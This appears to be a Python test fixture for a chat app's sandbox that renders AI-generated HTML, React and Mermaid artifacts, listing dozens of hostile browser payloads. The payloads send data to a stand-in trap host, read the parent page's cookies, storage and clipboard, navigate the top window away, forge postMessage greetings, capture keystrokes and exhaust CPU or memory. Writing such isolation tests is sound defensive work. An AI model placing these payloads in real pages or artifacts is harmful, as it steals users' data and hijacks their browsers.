# ruff: noqa: E501 - an attack stands on its line
"""Hostile artifacts: each tries to send something out, to read what is ours, or to harm the page.

`TRAP` is a server that must never be reached, over TCP or UDP. `said(...)` tells the test, once, what the artifact got hold of; an
artifact that got nothing says so with no arguments.
"""

from typing import Final

TRAP: Final = "http://127.0.0.1:1"
STUN: Final = "127.0.0.1:2"

_TRIES: Final = {
    # Requests by script
    "fetch": "await fetch('TRAP/fetch').then(() => 'out', () => '')",
    "fetch-no-cors": "await fetch('TRAP/f', {mode: 'no-cors', method: 'POST', body: 'x', keepalive: true}).then(() => 'out', () => '')",
    "fetch-ours": "await fetch('OURS/api/session', {credentials: 'include'}).then(r => r.text(), () => '')",
    "xhr": "await new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = () => done(x.responseText);"
    " x.open('GET', 'TRAP/xhr'); x.send(); })",
    "websocket": "await new Promise(done => { const s = new WebSocket('TRAP'.replace('http', 'ws')); s.onopen = () => done('open');"
    " s.onerror = () => done(''); })",
    "event-source": "await new Promise(done => { const s = new EventSource('TRAP/es'); s.onopen = () => done('open');"
    " s.onerror = () => { s.close(); done(''); }; })",
    "beacon": "(navigator.sendBeacon('TRAP/beacon', 'x'), '')",
    "webtransport": "await (async () => { const t = new WebTransport('TRAP'.replace('http', 'https')); await t.ready; return 'open' })()",
    "webrtc-stun": "typeof RTCPeerConnection === 'undefined' ? '' : (globalThis.pc = new RTCPeerConnection({iceServers: [{urls:"
    " 'stun:STUN'}]}), pc.createDataChannel('x'), await pc.setLocalDescription(await pc.createOffer()), 'rtc')",
    "webrtc-webkit": "typeof webkitRTCPeerConnection === 'undefined' ? '' : 'rtc'",
    "webrtc-of-a-blank-frame": "(() => { const f = document.createElement('iframe'); document.body.append(f);"
    " return typeof f.contentWindow.RTCPeerConnection })()",
    "webrtc-of-frames-by-number": "(() => { document.body.insertAdjacentHTML('beforeend', '<iframe></iframe>');"
    " return typeof window[0].RTCPeerConnection })()",
    "fetch-later": "await (async () => { fetchLater('TRAP/later', {activateAfter: 0}); return '' })()",
    "import": "await import('TRAP/module.js').then(() => 'in', () => '')",
    "import-scripts": "await new Promise(done => { const s = document.createElement('script'); s.src = 'TRAP/s.js?x';"
    " s.onload = () => done('in'); s.onerror = () => done(''); document.head.append(s); })",
    "blob-worker": "await new Promise(done => { const w = new Worker(URL.createObjectURL(new Blob(['fetch(\"TRAP/w\")'])));"
    " w.onerror = () => done(''); w.onmessage = () => done('ran'); })",
    "data-worker": "await new Promise(done => { const w = new Worker('data:text/javascript,fetch(\"TRAP/w\")');"
    " w.onerror = () => done(''); })",
    "shared-worker": "await new Promise(done => { const w = new SharedWorker('data:text/javascript,fetch(\"TRAP/w\")');"
    " w.onerror = () => done(''); })",
    "image-by-script": "await new Promise(done => { const i = new Image(); i.onload = () => done('in'); i.onerror = () => done('');"
    " i.src = 'TRAP/i.png?x'; })",
    "audio": "await new Promise(done => { const a = new Audio('TRAP/a.mp3'); a.onerror = () => done(''); a.oncanplay = () => done('in');"
    " a.load(); })",
    "font": "await new FontFace('x', 'url(TRAP/f.woff2)').load().then(() => 'in', () => '')",
    "preconnect-by-script": "(() => { for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'modulepreload',"
    " 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = 'TRAP/' + rel;"
    " document.head.append(l); } return '' })()",
    "speculation-by-script": "(() => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent ="
    " JSON.stringify({prefetch: [{source: 'list', urls: ['TRAP/s']}], prerender: [{source: 'list', urls: ['TRAP/s']}]});"
    " document.head.append(s); return '' })()",
    # Ours
    "parent-document": "parent.document.body.innerText",
    "top-document": "top.document.title",
    "parent-location": "parent.location.href",
    "parent-storage": "parent.localStorage.length + 'items'",
    "parent-names": "Object.keys(parent).filter(name => isNaN(name)).join()",
    "opener": "opener ? 'opener' : ''",
    "frame-element": "window.frameElement ? 'element' : ''",
    "cookie": "document.cookie",
    "cookie-store": "JSON.stringify(await cookieStore.getAll()).replace('[]', '')",
    "set-cookie": "(document.cookie = 'evil=1', document.cookie)",
    "indexed-db": "await new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = () => done('db'); r.onerror = fail; })",
    "caches": "(await caches.keys(), 'caches')",
    "service-worker": "await navigator.serviceWorker.register('/sw.js').then(() => 'worker')",
    "broadcast": "await new Promise(done => { const c = new BroadcastChannel('rxchat'); c.onmessage = e => done(e.data); c.postMessage(1);"
    " setTimeout(() => done(''), 50); })",
    "origin": "origin === 'null' ? '' : origin",
    "own-storage-is-memory": "localStorage instanceof Storage ? 'storage' : ''",
    "clipboard-read": "await navigator.clipboard.readText()",
    "clipboard-write": "await navigator.clipboard.writeText('evil').then(() => 'written')",
    "paste": "document.execCommand('paste') ? 'pasted' : ''",
    "notification": "(await Notification.requestPermission()) === 'granted' ? 'granted' : ''",
    "geolocation": "await new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('place'), fail))",
    "camera": "await navigator.mediaDevices.getUserMedia({video: true}).then(() => 'camera')",
    "full-screen": "await document.documentElement.requestFullscreen().then(() => 'full')",
    "pointer-lock": "await document.body.requestPointerLock().then(() => 'locked')",
    # Leaving
    "open": "window.open('TRAP/open?x') ? 'window' : ''",
    "open-ours": "window.open('OURS/') ? 'window' : ''",
    "top-navigation": "(top.location = 'TRAP/top?x', '')",
    "parent-navigation": "(parent.location.replace('TRAP/parent?x'), '')",
    "dialogs": "(alert('a'), confirm('b') || prompt('c') ? 'answered' : '')",
    "download": "(() => { const a = document.createElement('a'); a.href = 'data:,x'; a.download = 'x.txt'; document.body.append(a); a.click();"
    " return '' })()",
    "click-a-link": "(() => { const a = document.createElement('a'); a.href = 'TRAP/link'; a.ping = 'TRAP/ping'; a.target = '_blank';"
    " document.body.append(a); a.click(); return '' })()",
    "submit-a-form": "(() => { document.body.insertAdjacentHTML('beforeend', '<form action=\"TRAP/form\" method=post></form>');"
    " document.forms[0].submit(); return '' })()",
    "submit-to-a-tab": "(() => { document.body.insertAdjacentHTML('beforeend', '<form action=\"TRAP/form\" target=_blank></form>');"
    " document.forms[0].submit(); return '' })()",
    "policy-of-its-own": "(() => { document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy"
    " content=\"default-src *; report-uri TRAP/report\">'); return '' })()",
    # Forgeries: the page takes a document's address and a port once
    "forged-greeting": "(parent.postMessage({rxchat: 'ready', key: location.hash.slice(1)}, '*'), '')",
    "forged-answer": "(parent.postMessage({type: 'link', href: 'TRAP/forged'}, '*'), '')",
    "steal-the-port": "await new Promise(done => { addEventListener('message', e => done(e.ports.length ? 'port' : ''));"
    " setTimeout(() => done(''), 50); })",
}

# What loads by itself, without a script of the artifact's.
_MARKUP: Final = {
    "image": "<img src='TRAP/i?x'><img srcset='TRAP/i 2x'><picture><source srcset='TRAP/s'><img></picture><input type=image src='TRAP/n'>",
    "styles": "<style>@import 'TRAP/c';@font-face{font-family:x;src:url(TRAP/f)}p{font-family:x;background:url(TRAP/b);"
    "cursor:url(TRAP/u),auto;list-style:url(TRAP/l)}</style><p style='border-image:url(TRAP/o)'>x",
    "links": "<link rel=stylesheet href='TRAP/s'><link rel=icon href='TRAP/i'><link rel=preload as=image href='TRAP/p'>"
    "<link rel=prefetch href='TRAP/f'><link rel=preconnect href='TRAP'><link rel=dns-prefetch href='TRAP'><link rel=manifest href='TRAP/m'>",
    "media": "<video src='TRAP/v' poster='TRAP/p' autoplay></video><audio src='TRAP/a' autoplay></audio><track src='TRAP/t'>",
    "embedded": "<object data='TRAP/o'></object><embed src='TRAP/e'><iframe src='TRAP/f'></iframe><frame src='TRAP/g'>"
    "<iframe src='OURS/'></iframe><iframe src='OURS/artifact-frame#x'></iframe>",
    "nested-documents": "<iframe srcdoc=\"<script>top.postMessage({leak: 'srcdoc'}, '*');new RTCPeerConnection</script>\"></iframe>"
    "<iframe src=\"javascript:top.postMessage({leak: 'javascript'}, '*')\"></iframe>"
    "<iframe srcdoc=\"<img src=x onerror=top.postMessage({leak:'handler'},'*')>\"></iframe>"
    "<iframe src=\"data:text/html,<script>top.postMessage({leak: 'data'}, '*')</script>\"></iframe>",
    "svg": "<svg><image href='TRAP/i'/><use href='TRAP/u#x'/><feImage href='TRAP/f'/><script href='TRAP/s'/>"
    "<foreignObject><img src='TRAP/g'></foreignObject></svg>",
    "scripts": "<script src='TRAP/s.js'></script><script type=module>import 'TRAP/m.js'</script>"
    "<script type=importmap>{\"imports\": {\"x\": \"TRAP/x.js\"}}</script><script type=module>import 'x'</script>",
    "refresh": "<meta http-equiv=refresh content='0;url=TRAP/refresh?x'><base href='TRAP'>",
    "leaving": "<script>say('');location.href = 'TRAP/self?data=' + encodeURIComponent(document.title)</script>",
    "replacing": "<script>say('');location.replace('TRAP/replace?x')</script>",
    "leaving-for-ours": "<script>say('');location = 'OURS/?data'</script>",
    "leaving-for-data": "<script>say('');location = 'data:text/html,<script>top.postMessage({leak: \"data\"}, \"*\")<' + '/script>'</script>",
    "written-again": "<script>say('');document.open();document.write('<img src=TRAP/w><script>new Image().src=\"TRAP/x\"<' + '/script>');"
    "document.close()</script>",
}  # fmt: skip

_SAY: Final = "var say = (leak, name = 'NAME') => parent.postMessage({artifact: name, leak: String(leak ?? '')}, '*');"
_TOGETHER: Final = 9
"""Tries of one document: a browser takes its time for each frame."""
_ALONE: Final = ("submit-a-form", "submit-to-a-tab", "top-navigation", "parent-navigation", "click-a-link", "policy-of-its-own")
"""What may end the document."""


def hostile(trap: str, stun: str, ours: str) -> tuple[dict[str, str], list[str]]:
    """The documents by their names, and the names of all that they try. Each says its name when it has tried."""
    documents: dict[str, str] = {}
    others = [name for name in _TRIES if name not in _ALONE]
    for names in [[name] for name in _ALONE] + [others[begin : begin + _TOGETHER] for begin in range(0, len(others), _TOGETHER)]:
        scripts = "".join(f"<script>{_tried(name)}</script>" for name in names)
        documents[names[0]] = f"<body><script>{_SAY}</script>{scripts}"
    for name, markup in _MARKUP.items():
        last = "" if "say(" in markup else "<script>say('')</script>"
        documents[name] = f"<body><script>{_SAY.replace('NAME', name)}</script>{markup}{last}"
    documents = {name: _placed(document, trap, stun, ours) for name, document in documents.items()}
    return documents, [*_TRIES, *_MARKUP]


# What React loads and runs: its own elements, which it hoists, and the functions of react-dom.
_ELEMENTS: Final = """
import { preconnect, prefetchDNS, preinit, preinitModule, preload } from "react-dom";
export default function Elements() {
  for (const ask of [preconnect, prefetchDNS, preinitModule]) ask("TRAP/" + ask.name);
  for (const as of ["script", "style"]) preinit("TRAP/preinit-" + as, { as });
  preload("TRAP/preload", { as: "image" });
  useEffect(() => say("", "elements"), []);
  return <>
    <link rel="stylesheet" href="TRAP/sheet" precedence="high" /><script async src="TRAP/script.js" />
    <style href="x" precedence="low">{"@import 'TRAP/import'; p { background: url(TRAP/background) }"}</style>
    <img src="TRAP/image" srcSet="TRAP/set 2x" /><video autoPlay src="TRAP/video" poster="TRAP/poster" />
    <iframe src="TRAP/frame" /><iframe srcDoc="<script>top.postMessage({leak: 'srcdoc'}, '*')</script>" />
    <object data="TRAP/object" /><embed src="TRAP/embed" /><p style={{ backgroundImage: "url(TRAP/inline)" }}>x</p>
    <div dangerouslySetInnerHTML={{ __html: "<img src=TRAP/html onerror=parent.postMessage({leak:'handler'},'*')>" }} />
  </>;
}"""
_LEAVING: Final = """
export default function Leaving() {
  useEffect(() => { say("", "leaving"); location.href = "TRAP/self?data=" + document.title; }, []);
  return <p>Leaving</p>;
}"""
_SAY_BY_COMPONENT: Final = (
    "const say = (leak, name) => parent.postMessage({artifact: 'react-' + name, leak: String(leak ?? '')}, '*');\n"
)


def hostile_components(trap: str, stun: str, ours: str) -> tuple[dict[str, str], dict[str, list[str]]]:
    """React components by their names, and what each tries. The one that leaves comes last.

    One tries in an effect and one while it is drawn. Each says less than a frame may say between two heartbeats.
    """
    others = [name for name in _TRIES if name not in _ALONE]
    half = len(others) // 2
    codes = {"react-elements": _ELEMENTS, "react-leaving": _LEAVING}
    tries = {"react-elements": ["react-elements"], "react-leaving": ["react-leaving"]}
    for component, names, when in (
        ("react-effects", others[:half], "useEffect(() => { TRIES }, []);"),
        ("react-drawing", others[half:], "useState(() => { TRIES });"),
        ("react-leaving-otherwise", list(_ALONE), "useEffect(() => { TRIES }, []);"),
    ):
        all_of_them = ";".join(_tried(name) for name in names)
        codes[component] = f"export default function Hostile() {{ {when.replace('TRIES', all_of_them)} return <p>Hostile</p> }}"
        tries[component] = [f"react-{name}" for name in names]
    codes = {name: _placed(_SAY_BY_COMPONENT + code, trap, stun, ours) for name, code in codes.items()}
    return codes, dict(sorted(tries.items(), key=lambda each: each[0] == "react-leaving"))


def hostile_diagram(trap: str, stun: str, ours: str) -> str:
    """A Mermaid diagram that wants to be trusted, and to load and run things."""
    diagram = """%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "* {background: url(TRAP/css)} @import 'TRAP/i';"}}%%
flowchart LR
  A["<img src='TRAP/image' onerror='parent.postMessage({leak: 1}, `*`)'><script>parent.postMessage({leak: 2}, '*')</script>"]
  B["<iframe src='TRAP/frame'></iframe><svg><image href='TRAP/svg'/></svg>"] --> C[Go]
  A --> B
  click C href "javascript:parent.postMessage({leak: 3}, '*')"
  click B call alert("called")
"""
    return _placed(diagram, trap, stun, ours)


def _placed(text: str, trap: str, stun: str, ours: str) -> str:
    for word, place in {"TRAP": trap, "STUN": stun, "OURS": ours}.items():
        text = text.replace(word, place)
    return text


def _tried(name: str) -> str:
    return f"(async () => {{ let got = ''; try {{ got = {_TRIES[name]} }} catch {{}} say(got, '{name}') }})()"


SPINNING: Final = "<script>setTimeout(() => { for (;;); }, 0)</script>"
FLOODING: Final = (
    "<script>setInterval(() => { for (let i = 0; i < 1000; i++) parent.postMessage('x'.repeat(1000), '*') }, 1)</script>"
)
GROWING: Final = (
    "<script>const kept = []; setInterval(() => kept.length < 40 && kept.push(new Uint8Array(4e6).fill(1)), 10)</script>"
)
STEALING: Final = (
    "<input id=x><script>setInterval(() => { focus(); x.focus() }, 10);"
    "x.oninput = () => parent.postMessage({leak: x.value}, '*')</script>"
)
LINKING: Final = "<body style='margin:0'><a href='https://example.com/?data=1' style='display:block;height:300px'>Read</a>"
USING: Final = (
    "<body onload=\"ready.textContent = 'loaded'\"><p id=ready></p><p id=count>0</p><button onclick='add()'>Add</button>"
    "<form onsubmit=\"event.preventDefault(); count.textContent = 'sent'\"><button>Send</button></form>"
    "<script>const step = 2; localStorage.setItem('a', 'b')</script>"
    "<script>class Counter { add() { count.textContent = Number(count.textContent) + step } } const counter = new Counter()</script>"
    "<script>function add() { counter.add(); if (localStorage.getItem('a') !== 'b') count.textContent = 'no storage' }</script>"
)
"""What a well-meant artifact does: handlers in attributes, names shared by scripts, a form, storage."""

DRAWING_AGAIN: Final = (
    "export default function Again() { const [count, setCount] = useState(0); setCount(count + 1); return <p>{count}</p> }"
)
"""React ends it with an error."""
FLOODING_BY_EFFECT: Final = (
    "export default function Flood() { const [count, setCount] = useState(0);"
    " useEffect(() => { parent.postMessage(count, '*'); setCount(count + 1) }); return <p>{count}</p> }"
)
SPINNING_COMPONENT: Final = "export default function Spin() { for (;;); }"
